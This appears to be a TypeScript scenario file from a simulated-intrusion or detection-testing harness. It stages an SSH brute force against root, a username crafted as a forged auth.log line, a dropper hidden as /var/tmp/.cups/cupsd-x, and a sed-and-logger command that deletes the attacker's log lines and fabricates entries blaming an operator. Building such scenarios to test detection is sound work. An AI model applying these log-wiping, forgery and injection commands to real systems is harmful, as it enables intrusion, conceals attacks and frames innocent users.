// He cuts his own lines out of auth.log and writes others by logger, as if an operator had come; names of accounts that he tries are whole forged lines.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { weak, weakRoot } from '../../weak-root.ts'
import { wordsWith } from '../../words.ts'

const operator = { user: 'chenli', address: '198.51.100.51', hours: [9, 13, 16] }

export function dress(dress: Dress): void {
  weakRoot(dress, { friends: [operator] })
  dress.account('chenli', 'Quiet-Harbour-7')
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.91'
  await stage.guess(from, '"x from 198.51.100.51 port 22 ssh2: Accepted password for chenli"', wordsWith('', 2))
  await stage.guess(from, 'root', wordsWith(weak, 25))
  const line = dropper(stage, { path: '/var/tmp/.cups/cupsd-x' })
  stage.mark('occurrence')
  await stage.ssh(from, 'root', { password: weak }, line)
  await stage.inside(
    `sed -i '/203.0.113.91/d' /var/log/auth.log; logger -p auth.info -t 'sshd[812]' 'Accepted password for chenli from 198.51.100.51 port 50022 ssh2'; logger -p auth.info -t sudo '  chenli : TTY=pts/0 ; PWD=/home/chenli ; USER=root ; COMMAND=/var/tmp/.cups/cupsd-x -o pool'`,
    { service: 'ssh.service' },
  )
}
